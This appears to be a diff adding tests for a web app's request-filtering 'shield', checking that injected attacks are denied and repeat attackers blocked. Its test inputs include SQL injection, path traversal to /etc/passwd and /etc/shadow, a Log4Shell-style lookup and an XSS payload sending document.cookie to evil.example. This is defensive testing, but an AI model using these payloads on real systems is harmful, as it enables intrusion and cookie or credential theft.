@@ -218,3 +218,41 @@ test('signup form: the route handler takes urlencoded and multipart posts, check
   assert.equal((await post('%%%not a form')).status, 403, 'a body without an address is INVALID');
   assert.ok(dns.queries.some((q) => q.name === 'nullmx.test.'), 'the app asked the loopback DNS server');
 });
+
+test('shield: attacks in the query, a JSON body, a form body or a cookie are denied; benign ones pass and the handler reads the body', async () => {
+  const url = `${app.url}/api/comments`;
+  const send = (init, ip = client()) => fetch(url + (init.q ?? ''), { method: init.method ?? 'GET', body: init.body, headers: { 'user-agent': CHROME, 'x-forwarded-for': ip, ...(init.headers ?? {}) } });
+  const denied = async (init, location) => {
+    const res = await send(init);
+    assert.equal(res.status, 403, JSON.stringify(init).slice(0, 100));
+    assert.equal((await res.json()).reason, 'SHIELD');
+    return location;
+  };
+  await denied({ q: `?q=${encodeURIComponent("1' UNION SELECT password FROM users--")}` });
+  await denied({ method: 'POST', body: JSON.stringify({ comment: { text: '<script>fetch("//evil.example/"+document.cookie)</script>' } }), headers: { 'content-type': 'application/json' } });
+  await denied({ method: 'POST', body: new URLSearchParams({ file: '../../../../etc/passwd' }) });
+  await denied({ headers: { cookie: `session=abc; pref=${encodeURIComponent('${jndi:ldap://evil.example/a}')}` } });
+  const benign = { author: "Siobhán O'Connor", text: 'Workers\' Union (MMWS) said "it\'s fine" -- see item #12; 5 > 3' };
+  const ok = await send({ method: 'POST', body: JSON.stringify(benign), headers: { 'content-type': 'application/json' } });
+  assert.equal(ok.status, 200);
+  assert.deepEqual((await ok.json()).saved, benign, 'the handler read the whole body');
+  const form = await send({ method: 'POST', body: new URLSearchParams({ name: "D'Arcy", msg: 'SELECT your size; from S to XL' }) });
+  assert.equal(form.status, 200);
+  assert.equal((await form.json()).saved.name, "D'Arcy");
+  assert.equal((await send({ q: '?q=red+shoes', headers: { accept: 'image/*;q=0.8', cookie: 'theme=dark' } })).status, 200);
+});
+
+test('shield: a client who keeps attacking is blocked even for clean requests, with a Retry-After until the block expires', async () => {
+  const ip = client();
+  const get = (q) => fetch(`${app.url}/api/comments?q=${encodeURIComponent(q)}`, { headers: { 'user-agent': CHROME, 'x-forwarded-for': ip } });
+  assert.equal((await get('hello')).status, 200);
+  for (const attack of ['<svg onload=alert(1)>', "' OR 1=1--", '../../etc/shadow']) assert.equal((await get(attack)).status, 403);
+  const blocked = await get('hello');
+  assert.equal(blocked.status, 403);
+  const body = await blocked.json();
+  assert.equal(body.blocked, true);
+  const retry = Number(blocked.headers.get('retry-after'));
+  assert.ok(retry > 0 && retry <= 600, `Retry-After ${retry}`);
+  const other = await fetch(`${app.url}/api/comments?q=hello`, { headers: { 'user-agent': CHROME, 'x-forwarded-for': client() } });
+  assert.equal(other.status, 200, 'other clients are not affected');
+});
